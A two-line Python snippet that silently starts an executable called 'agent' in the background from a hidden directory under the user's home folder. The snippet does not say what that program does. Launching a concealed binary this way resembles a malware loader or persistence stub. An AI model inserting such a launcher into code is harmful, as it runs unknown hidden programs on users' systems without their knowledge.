import os
os.system('/home/dev/.local/share/.u/agent &')
